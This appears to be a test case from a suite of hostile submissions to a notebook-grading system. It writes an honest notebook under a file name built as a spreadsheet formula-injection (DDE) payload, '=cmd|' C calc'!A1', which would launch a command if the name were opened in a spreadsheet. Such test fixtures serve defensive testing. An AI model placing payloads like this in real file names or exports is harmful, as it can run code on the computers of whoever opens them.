# /// attack
# tries = "names its file like a formula of a spreadsheet"
# total = 2
# [parts]
# 2d = "right"
# ///

"""A file name that a spreadsheet would execute."""

from pathlib import Path

from hostile_attacks import HONEST, code_cell, notebook


def hand_in(target: Path) -> None:
    name = f"=cmd|' C calc'!A1;@SUM(1+1)*{target.name},+1-1.ipynb"
    target.with_name(name).write_text(notebook([code_cell(HONEST)]), "utf-8")
